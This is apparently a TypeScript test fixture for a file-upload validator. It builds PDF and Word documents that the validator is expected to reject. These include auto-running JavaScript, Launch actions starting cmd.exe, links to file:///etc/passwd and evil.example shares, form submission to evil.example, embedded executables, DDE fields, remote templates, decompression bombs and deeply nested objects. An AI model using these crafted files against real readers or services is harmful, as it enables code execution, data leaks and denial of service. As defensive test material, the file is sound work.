import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { packedObjects, pdfFile, streamObject } from '#tests/support/pdf-files.ts'
import { doc, docxOf } from '#tests/support/sample-files.ts'
import { bytes, forContact, forKyc, type HostileFile, TRIAL_VIRUS } from './hostile-file.ts'

const MB = 1024 * 1024
const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const act = (action: string) => pdfFile({ page: '/Annots[20 0 R]', objects: { 20: link(action) } })
const link = (action: string) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${action}>>`
const opening = (action: string) => pdfFile({ catalog: `/OpenAction ${action}` })
const wide = (text: string) => `<FEFF${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`
const attached = {
  21: '<</Type/Filespec/F(evil.exe)/EF<</F 22 0 R>>>>',
  22: streamObject('/Type/EmbeddedFile', 'MZ'),
}
const annotation = (kind: string, more = '') =>
  pdfFile({
    page: '/Annots[20 0 R]',
    objects: { 20: `<</Type/Annot/Subtype/${kind}/Rect[0 0 9 9]${more}>>`, ...attached },
  })

/** PDFs with acts, scripts, and other files: none of them is taken. */
function harmfulPdfs(): [what: string, content: Uint8Array][] {
  const packed = packedObjects({ 30: SCRIPT })
  const hexPacked = (() => {
    const head = '30 0 '
    const data = deflateSync(Buffer.from(head + SCRIPT)).toString('hex')
    return streamObject(`/Type/ObjStm/N 1/First ${head.length}/Filter[/ASCIIHexDecode/FlateDecode]`, `${data}>`)
  })()
  const older = pdfFile({ objects: { 20: SCRIPT } })
  const hidden = `20 0 obj ${SCRIPT} endobj`
  return [
    ['a script that runs when it opens', opening(SCRIPT)],
    ['a script among its names', pdfFile({ catalog: `/Names<</JavaScript<</Names[(a) ${SCRIPT}]>>>>` })],
    ['a script in escaped letters', opening('<</S/J#61v#61Script/#4a#53(app.alert\\(1\\))>>')],
    ['a script in a packed object', pdfFile({ catalog: '/OpenAction 30 0 R', objects: { 20: packed } })],
    ['a script packed without saying so', pdfFile({ objects: { 20: packedObjects({ 30: SCRIPT }, { dict: '' }) } })],
    [
      'a script packed as a picture',
      pdfFile({ objects: { 20: packedObjects({ 30: SCRIPT }, { dict: '/Subtype/Image' }) } }),
    ],
    ['a script packed twice', pdfFile({ objects: { 20: hexPacked } })],
    ['a script when a page opens', pdfFile({ page: `/AA<</O ${SCRIPT}>>` })],
    [
      'a script in a form',
      pdfFile({ catalog: `/AcroForm<</Fields[20 0 R]>>`, objects: { 20: `<</FT/Tx/T(a)/AA<</K ${SCRIPT}>>>>` } }),
    ],
    [
      'a script whose kind stands elsewhere',
      pdfFile({ catalog: '/OpenAction<</S 20 0 R>>', objects: { 20: '/JavaScript' } }),
    ],
    [
      'a script that a later version took out',
      Buffer.concat([older, bytes('20 0 obj\nnull\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')]),
    ],
    ['a script given twice', opening(`<</S/GoTo/S/JavaScript/JS(app.alert\\(1\\))>>`)],
    ['a script inside a page’s text', pdfFile({ objects: { 20: streamObject('', `BT ${hidden} ET`) } })],
    ['a script inside a title', pdfFile({ objects: { 20: `<</Title(${hidden.replaceAll(/[()\\]/g, '\\$&')})>>` } })],
    [
      'a script behind a length that lies',
      pdfFile({ objects: { 20: bytes(`<</Length 9999>>\nstream\nx\nendstream\nendobj\n${hidden}`) } }),
    ],
    ['a program that a link starts', act('<</S/Launch/F(cmd.exe)>>')],
    ['a command of Windows', opening('<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>')],
    ['a link that is a script', act('<</S/URI/URI(javascript:alert\\(1\\))>>')],
    ['a link to a file', act('<</S/URI/URI(file:///etc/passwd)>>')],
    ['a link to another computer', act('<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>')],
    ['a link that is a page, in wide letters', act(`<</S/URI/URI ${wide('data:text/html,<script>')}>>`)],
    ['a link in octal letters', act('<</S/URI/URI(\\152avascript:alert\\(1\\))>>')],
    [
      'a link whose text stands elsewhere',
      pdfFile({
        page: '/Annots[20 0 R]',
        objects: { 20: link('<</S/URI/URI 21 0 R>>'), 21: '(smb://evil.example/a)' },
      }),
    ],
    ['a page of the web that opens by itself', opening('<</S/URI/URI(https://evil.example/)>>')],
    [
      'the same through a page’s own acts',
      pdfFile({ page: '/AA<</O 20 0 R>>', objects: { 20: '<</S/URI/URI(https://evil.example/)>>' } }),
    ],
    ['a form that sends itself', act('<</S/SubmitForm/F(https://evil.example/)>>')],
    ['a form that fetches', act('<</S/ImportData/F(a.fdf)>>')],
    ['a link into another file', act('<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>')],
    ['a link into a file inside', act('<</S/GoToE/D[0/Fit]>>')],
    [
      'a program inside',
      pdfFile({ catalog: '/Names<</EmbeddedFiles<</Names[(evil.exe)21 0 R]>>>>', objects: attached }),
    ],
    ['a program inside, named nowhere', pdfFile({ objects: { 22: attached[22] } })],
    ['a program pinned to a page', annotation('FileAttachment', '/FS 21 0 R')],
    ['a movie', annotation('Movie')],
    ['a sound', annotation('Sound')],
    ['a screen with media', annotation('RichMedia')],
    [
      'a form of its own language',
      pdfFile({ catalog: '/AcroForm<</Fields[]/XFA 20 0 R>>', objects: { 20: streamObject('', '<xdp/>') } }),
    ],
    ['a portfolio', pdfFile({ catalog: '/Collection<</View/D>>' })],
    ['data from another file', pdfFile({ objects: { 20: '<</Length 0/F(//evil.example/a)>>\nstream\n\nendstream' } })],
    ['a ZIP behind it', Buffer.concat([pdfFile(), zipSync({ evil: strToU8('x') })])],
    ['a web page behind it', Buffer.concat([pdfFile(), bytes('<script>alert(1)</script>')])],
    ['a program behind it', Buffer.concat([pdfFile(), bytes('MZ\x90'), Buffer.alloc(500)])],
    ['the trial virus in a comment', Buffer.concat([bytes(`%PDF-1.7\n%${TRIAL_VIRUS}\n`), pdfFile()])],
  ]
}

const nested = (open: string, close: string, times: number) => open.repeat(times) + close.repeat(times)

/** PDFs that are too much: pages, objects, or what they unpack to. */
function largePdfs(): [what: string, content: Uint8Array][] {
  const zeros = deflateSync(Buffer.alloc(64 * MB), { level: 1 })
  const many = Object.fromEntries(Array.from({ length: 50_001 }, (_, at) => [2000 + at, 'null']))
  return [
    ['201 pages', pdfFile({ pages: 201 })],
    ['50,001 objects', pdfFile({ objects: many })],
    [
      'a billion packed objects',
      pdfFile({ objects: { 20: streamObject('/Type/ObjStm/N 1000000000/First 5', '1 0 2') } }),
    ],
    ['a page that unpacks to 64 MB', pdfFile({ objects: { 20: streamObject('/Filter/FlateDecode', zeros) } })],
    [
      'a page that unpacks twice',
      pdfFile({ objects: { 20: streamObject('/Filter[/FlateDecode/FlateDecode]', deflateSync(zeros)) } }),
    ],
    [
      'packed objects that unpack to 64 MB',
      pdfFile({ objects: { 20: streamObject('/Type/ObjStm/N 1/First 5/Filter/FlateDecode', zeros) } }),
    ],
    [
      'a picture of ten billion pixels',
      pdfFile({ objects: { 20: streamObject('/Subtype/Image/Width 100000/Height 100000/Filter/FlateDecode', 'x') } }),
    ],
  ]
}

/** PDFs that no reader could open, or not without harm. */
function brokenPdfs(): [what: string, content: Uint8Array][] {
  const whole = pdfFile()
  return [
    ['only its mark', bytes('%PDF-1.7\n')],
    ['only its mark and its end', bytes('%PDF-1.7\n%%EOF\n')],
    ['no pages', bytes('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')],
    ['its beginning alone', whole.subarray(0, 200)],
    ['its end alone', Buffer.concat([bytes('%PDF-1.7\n'), whole.subarray(whole.indexOf('xref'))])],
    ['lists in lists', pdfFile({ objects: { 20: nested('[', ']', 100_000) } })],
    ['dictionaries in dictionaries', pdfFile({ objects: { 20: nested('<</A', '>>', 50_000) } })],
    ['text in parentheses without an end', pdfFile({ objects: { 20: '('.repeat(100_000) } })],
    ['objects of noise', Buffer.concat([bytes('%PDF-1.7\n'), Buffer.from('1 0 obj]endobj\n'.repeat(500))])],
  ]
}

const relation = (kind: string, target: string) =>
  `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`
const inDoc = (name: string) => Buffer.concat([doc, Buffer.from(name, 'utf16le')])

/** Word documents with macros, other files, and what is fetched when they open. */
function hostileWord(): HostileFile[] {
  const harmful: [what: string, content: Uint8Array][] = [
    ['macros', docxOf({ 'word/vbaProject.bin': new Uint8Array(9) })],
    ['a program inside', docxOf({ 'word/embeddings/evil.exe': 'MZ' })],
    ['an object inside', docxOf({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a control inside', docxOf({ 'word/activeX/activeX1.xml': '<a/>' })],
    [
      'a template from elsewhere',
      docxOf({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/a.dotm') }),
    ],
    [
      'a picture from elsewhere',
      docxOf({ 'word/_rels/document.xml.rels': relation('image', 'file://evil.example/a.png') }),
    ],
    [
      'a field that starts a program',
      docxOf({ 'word/document.xml': '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>' }),
    ],
    ['entities', docxOf({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })],
    ['a path upward', docxOf({ '../../evil.xml': '<a/>' })],
  ]
  const crowd = Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`word/${at}.txt`, '']))
  return [
    ...harmful.map(([what, content]) =>
      forContact(`a Word document with ${what}`, 'a.docx', content, 'attachment_harmful'),
    ),
    forContact(
      'a Word document that unpacks to 70 MB',
      'a.docx',
      docxOf({ 'word/a.xml': new Uint8Array(70 * MB) }),
      'attachment_too_long',
    ),
    forContact('a Word document of 2,100 parts', 'a.docx', docxOf(crowd), 'attachment_too_long'),
    forContact('a Word document that breaks off', 'a.docx', docxOf().subarray(0, 400), 'attachment_unreadable'),
    forContact('an old Word document with macros', 'a.doc', inDoc('_VBA_PROJECT'), 'attachment_harmful'),
    forContact('an old Word document with a program', 'a.doc', inDoc('Ole10Native'), 'attachment_harmful'),
    forContact('an old Word document with a password', 'a.doc', inDoc('EncryptedPackage'), 'attachment_locked'),
  ]
}

/** Documents that carry, fetch, or start something, that fill up memory, or that nobody can look through. */
export function hostileDocuments(): HostileFile[] {
  const locked = '<</Filter/Standard/V 1/R 2/O<00>/U<00>/P -4>>'
  const of = (then: HostileFile['then'], list: [what: string, content: Uint8Array][]) =>
    list.map(([what, content]) => forKyc(`a PDF with ${what}`, 'bill.pdf', content, then))
  return [
    ...of('attachment_harmful', harmfulPdfs()),
    ...of('attachment_too_long', largePdfs()),
    ...of('attachment_unreadable', brokenPdfs()),
    ...of('attachment_locked', [
      ['a password', pdfFile({ trailer: '/Encrypt 20 0 R', objects: { 20: locked } })],
      [
        'a lock in its table',
        pdfFile({ objects: { 20: streamObject(`/Type/XRef/Size 1/W[1 1 1]/Encrypt ${locked}`, '') } }),
      ],
    ]),
    ...hostileWord(),
    // What honest documents have is taken.
    forKyc('an honest bill with a link to its page', 'bill.pdf', act('<</S/URI/URI(https://bank.example/)>>'), {
      name: 'bill.pdf',
    }),
    forKyc('an honest bill that opens at a page', 'bill.pdf', opening('[3 0 R/Fit]'), { name: 'bill.pdf' }),
    forKyc(
      'an honest bill with packed objects',
      'bill.pdf',
      pdfFile({ objects: { 20: packedObjects({ 30: '<</A 1>>', 31: '[1 2]' }) } }),
      { name: 'bill.pdf' },
    ),
    forContact(
      'an honest letter with a link',
      'a.docx',
      docxOf({ 'word/_rels/document.xml.rels': relation('hyperlink', 'https://bank.example/') }),
      { name: 'a.docx' },
    ),
  ]
}
